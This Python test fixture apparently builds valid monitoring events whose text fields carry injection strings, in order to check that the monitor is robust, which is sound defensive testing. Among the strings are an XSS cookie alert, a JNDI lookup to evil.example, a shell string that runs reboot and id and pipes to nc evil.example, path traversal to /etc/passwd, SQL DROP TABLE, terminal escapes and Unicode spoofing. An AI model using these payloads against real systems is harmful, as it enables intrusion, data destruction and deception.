"""Good events whose texts attack whatever shows them. They must get through unharmed."""

from __future__ import annotations

from tests.monitor.hostile_parts import event_json, spliced


def nasty_but_valid() -> list[tuple[str, bytes]]:
    """Good events, JSON, whose texts attack logs, terminals, chat, HTML, shells, file systems, SQL and spreadsheets."""
    texts = {
        "html": "<script>alert(document.cookie)</script>",
        "html attribute": "\" onmouseover=\"alert(1)",
        "html comment": "--><img src=x onerror=alert(1)>",
        "slack everyone": "<!channel> <!here> <!everyone>",
        "slack link": "<https://evil.example/login|Sign in to undo>",
        "slack user": "<@U012AB3CD> *bold* _it_ ~no~ `code`",
        "markdown": "[undo](javascript:alert(1)) ![x](https://evil.example/p.png)",
        "log line": 'ok" level=critical msg="all incidents resolved',
        "json in text": '","admin":true,"x":"',
        "format string": "%s%s%n{0.__class__}${jndi:ldap://evil.example/a}{{7*7}}",
        "shell": "$(reboot);`id`|nc evil.example 9 &&",
        "path": "../../../../etc/passwd",
        "absolute path": "/etc/cron.d/x",
        "windows path": "C:\\..\\..\\CON",
        "dot": ".",
        "two dots": "..",
        "sql": "'; DROP TABLE actions; --",
        "spreadsheet": "=HYPERLINK(\"https://evil.example\",\"x\")",
        "metric label": 'a",model="b"} 1e9 #',
        "key separators": "client:ip:10.0.0.1",
        "anonymous": "anonymous",
        "right-to-left override": "acct-\u202egpj.exe",
        "isolates": "\u2066admin\u2069",
        "zero width": "ad\u200bmin\u200d\ufeff",
        "combining": "Z" + "\u0363\u0301\u0489" * 80,
        "composed": "caf\u00e9",
        "decomposed": "cafe\u0301",
        "look-alike": "\u0430dmin",
        "emoji": "\U0001f469\u200d\U0001f4bb" * 20,
        "private use": "\ue000\U0010ffff\ufffe",
        "no-break space": "\u00a0",
        "a space": " ",
        "percent": "%00%0a%1b",
        "backslash escape": "\\u001b[2J\\n",
        "null text": "null",
        "as long as may be": "\U0001d4d0" * 128,
    }  # fmt: skip
    records = [
        (
            f"everywhere: {label}",
            event_json(
                id=text,
                model=text,
                version=text,
                client={"id": text, "ip": "203.0.113.9"},
                outputs={"label": text},
                tags={text[:128]: text, "terminal": "\x1b]0;owned\x07\x1b[2J\r\n\0\x9b31m\u2028"},
            ),
        )
        for label, text in texts.items()
        if len(text) <= 128
    ]
    long = texts["combining"]
    records.append(("id only: combining", event_json(id=long)))
    return [
        *records,
        ("unknown fields of every type", b'{"x":null,"y":[[[{}]]],"z":1e400,' + event_json()[1:]),
        ("repeated keys", b'{"id":"first",' + event_json()[1:]),
        ("all inputs missing", event_json(inputs=[None] * 4)),
        ("signed zeros and tiny numbers", spliced("inputs", "[-0, -0.0, 1e-400, 1.4e-45]")),
        ("largest float32", spliced("inputs", "[3.4028235e38, -3.4028235e38, 0, 1]")),
        ("brackets inside strings", event_json(tags={"route": "[[[[[[[[[[[[[[[[[[[[{{{{{{{{{{{{{{\\\""})),
        ("mapped address", event_json(client={"ip": "::ffff:203.0.113.9"})),
        ("many spaces", b" \n\t" * 1000 + event_json() + b" \r\n" * 1000),
    ]  # fmt: skip
